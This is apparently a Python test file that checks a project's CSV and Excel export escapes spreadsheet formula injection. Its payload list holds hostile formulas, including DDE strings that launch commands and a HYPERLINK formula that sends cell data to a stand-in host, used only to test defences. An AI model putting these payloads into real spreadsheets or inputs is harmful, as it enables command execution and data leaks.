"""What citizens and attackers write stays text in every spreadsheet that opens an export."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from corong.desk.exporting.cells import MOST_XLSX, for_csv, for_xlsx, is_risky
from corong.desk.exporting.rows import COLUMNS
from corong.desk.exporting.tables import Tables

AT = datetime(2026, 7, 1, 3, 4, 5, tzinfo=UTC)
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "−1+1", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"klik")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x\")",
    '=DDE("cmd";"/C calc";"x")', "=-1", "=+1", "--1", "+cmd|' /C notepad'!'A1'", '",=1+1,"', "a,=1+1", "a;=1+1",
    "a\t=1+1",
    "a|=1+1", "a\n=1+1", "a\r\n=1+1", "a\";=1+1;\"", "a;  -1", "a;\u00a0@x", "a\u2028=1", "a\u0085=1", "'=1+1", "''=1",
    "a;\"=1+1\"", "\0=1+1", "\x01=1",
]  # fmt: skip
DANGEROUS = tuple("=+-@＝＋－＠﹦﹢﹣﹫−\t\r\n")
BLANK = "\ufeff\u200b\u2060\0"


def cells_of(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def begins_a_formula(cell: str) -> bool:
    return cell.strip(BLANK + " \u00a0\u2028\u0085").startswith(DANGEROUS) and not cell.startswith("'")


def row_of(text: str) -> list[Any]:
    return [0, *[""] * 7, 1, *[""] * 2, text, text]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_has_no_cell_that_begins_a_formula(payload: str, separator: str, tmp_path: Path) -> None:
    """However the program that opens it separates, and whether or not it knows what quotes are."""
    with Tables(tmp_path / "t.csv", tmp_path / "t.xlsx", AT, "Uji") as tables:
        tables.write(row_of(payload))
        tables.write(row_of(f"Mohon diperbaiki. {payload}"))
    text = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    assert not [cell for cell in cells_of(text, separator) if begins_a_formula(cell)]
    naive = [cell for line in text.splitlines() for cell in line.split(separator)]
    assert not [cell for cell in naive if begins_a_formula(cell.strip('"'))]


@given(st.text())
def test_any_text_is_safe_and_keeps_its_words(text: str) -> None:
    safe = for_csv(text)
    assert not is_risky(safe) or safe.startswith("'")
    assert len(safe) >= len(text)
    if text.isalnum():
        assert safe == text


def test_an_xlsx_keeps_every_payload_as_the_text_that_it_is(tmp_path: Path) -> None:
    with Tables(tmp_path / "t.csv", tmp_path / "t.xlsx", AT, "Uji") as tables:
        for payload in PAYLOADS:
            tables.write(row_of(payload))
        tables.write(row_of("mailto:a@b.example http://x.example 12345678901234567890"))
        tables.write(row_of("x" * 40_000))
    sheet: Any = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
    for number, payload in enumerate(PAYLOADS, 2):
        cell = sheet.cell(number, 12)
        assert cell.data_type == "s", payload
        # Signs that XML has no place for are written out (ECMA-376 part 1, 22.9.2.19).
        written = payload.replace("\0", "_x0000_").replace("\x01", "_x0001_")
        assert str(cell.value).replace("_x000D_", "\r") == written
        assert cell.quotePrefix is is_risky(payload)
        assert cell.hyperlink is None
    rest = [sheet.cell(number, 12).value for number in (len(PAYLOADS) + 2, len(PAYLOADS) + 3)]
    assert rest[0] == "mailto:a@b.example http://x.example 12345678901234567890"
    assert len(rest[1]) <= MOST_XLSX
    assert rest[1].endswith("events.csv)")


@given(st.text(max_size=5).map(lambda text: text * 8000))
def test_a_cell_is_never_longer_than_excel_takes(text: str) -> None:
    assert len(for_xlsx(text).encode("utf-16-le")) <= 2 * MOST_XLSX


def test_the_same_rows_make_the_same_files(tmp_path: Path) -> None:
    made = []
    for name in ("a", "b"):
        folder = tmp_path / name
        folder.mkdir()
        with Tables(folder / "t.csv", folder / "t.xlsx", AT, "Uji") as tables:
            for payload in PAYLOADS:
                tables.write(row_of(payload))
        made.append(((folder / "t.csv").read_bytes(), (folder / "t.xlsx").read_bytes()))
    assert made[0] == made[1]


def test_a_sheet_that_is_full_is_followed_by_another(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("corong.desk.exporting.tables.ROWS_OF_A_SHEET", 10)
    with Tables(tmp_path / "t.csv", tmp_path / "t.xlsx", AT, "Uji") as tables:
        for number in range(25):
            tables.write([number, *row_of("x")[1:]])
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    numbers = [row[0].value for sheet in book for row in sheet.iter_rows(min_row=2)]
    assert (book.sheetnames, numbers) == (["Log 1", "Log 2", "Log 3"], list(range(25)))
